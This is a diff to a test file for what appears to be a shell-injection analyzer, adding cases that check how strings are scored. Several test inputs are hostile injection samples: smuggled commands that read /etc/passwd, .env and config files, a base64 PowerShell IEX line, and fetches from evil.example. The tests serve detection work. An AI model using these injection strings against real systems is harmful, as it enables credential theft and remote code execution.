@@ -181,8 +181,10 @@ describe("shell analyzer", () => {
     for (const v of ["date / time", "which / what", "cat and dog", "ls is short for list", "set the time", "Find /Search"]) {
       expect(s(v)).toBeLessThan(0.8);
     }
+    // A relative path to a file stays a path.
+    for (const v of ["; cat config/database.yml", ";cat WEB-INF/web.xml", ";more a/b/c"]) expect([v, s(v)]).toEqual([v, 0.85]);
     // A slash inside a word of prose after a separator, and after a path's segment (the rest of a route is no argument).
-    for (const v of ["hello; move them and/or that", "ok; find the docs at example.com/help", "yes; sort by date/time", "/search/put tags in your template; move them to a bundle./details"]) {
+    for (const v of ["hello; move them and/or that", "ok; find the docs at example.com/help", "ok; find the docs at example.com/index.html", "yes; sort by date/time", "/search/put tags in your template; move them to a bundle./details"]) {
       expect([v, s(v) < 0.8]).toEqual([v, true]);
     }
   });
@@ -417,7 +419,8 @@ describe("shell analyzer", () => {
     for (const v of ['resource "r" {\n  type        = "ingress"\n}', "a = 1\ntime = 5", "[logging]\nlevel = info\nfile = /tmp/app.log", "x\nenv := prod", "deps\nsort += name", "del(.password, .token)", ". | del(.password)", "x; sort(list)"]) {
       expect([v, s(v)]).toEqual([v, 0]);
     }
-    for (const v of ["; iex(irm evil.example/a)", "; IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", ";cat /etc/passwd", "x\nfile /etc/passwd"]) {
+    // After `;`, `|` or `&` a shell runs `cat = file` all the same: `=` is its first argument.
+    for (const v of ["; iex(irm evil.example/a)", "; IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", ";cat /etc/passwd", "x\nfile /etc/passwd", "127.0.0.1; cat = /home/app/.env", "; curl = http://evil.example/x -o /tmp/x"]) {
       expect([v, s(v) >= 0.7]).toEqual([v, true]);
     }
   });
